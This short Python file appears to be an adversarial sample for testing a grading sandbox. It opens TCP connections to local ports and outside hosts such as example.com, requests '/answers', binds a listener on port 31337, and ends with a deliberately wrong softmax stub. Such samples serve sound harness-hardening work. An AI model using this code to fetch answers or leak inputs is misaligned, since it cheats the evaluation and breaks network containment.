"""Attack: open TCP connections (to leak the inputs or fetch answers)."""
import socket

OPENED = []
for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("8.8.8.8", 53), ("example.com", 80)):
    try:
        s = socket.create_connection((host, port), timeout=0.5)
        s.sendall(b"GET /answers HTTP/1.0\r\n\r\n")
        OPENED.append(host)
    except Exception:
        pass
try:
    srv = socket.socket()
    srv.bind(("0.0.0.0", 31337))
    srv.listen()
    OPENED.append("listen")
except Exception:
    pass


def softmax(x, dim=-1):
    return x
